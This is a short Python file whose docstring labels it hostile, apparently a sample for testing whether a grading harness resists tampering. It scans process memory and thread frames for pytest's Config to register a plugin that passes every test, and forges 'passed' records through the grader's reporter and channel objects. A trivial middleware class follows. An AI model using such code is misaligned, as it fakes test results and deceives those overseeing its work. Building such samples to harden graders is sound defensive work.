"""Hostile: looks through the process for pytest's Config, the grader's reporter and its
channel (gc, every thread's frames) to register a hook that passes every test and to
send "passed" records itself. The middleware is the starter's."""

import gc
import sys

found = []


class PassAll:
    def pytest_runtest_makereport(self, item, call):
        call.excinfo = None


def _forge(obj):
    kind = type(obj).__name__
    module = type(obj).__module__
    if kind == "Config" and module.startswith("_pytest"):
        obj.pluginmanager.register(PassAll(), "pass-all")
        found.append("Config")
    if kind in ("Reporter", "ChannelWriter", "SignedChannel"):
        for send in ("send", "_send"):
            method = getattr(obj, send, None)
            if callable(method):
                method({"event": "result", "nodeid": "x", "outcome": "passed"})
                found.append(kind)


for candidate in gc.get_objects():
    try:
        _forge(candidate)
    except Exception:
        pass
for frame in sys._current_frames().values():
    while frame is not None:
        for value in list(frame.f_locals.values()):
            try:
                _forge(value)
            except Exception:
                pass
        frame = frame.f_back


class TimingMiddleware:
    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        return self.get_response(request)
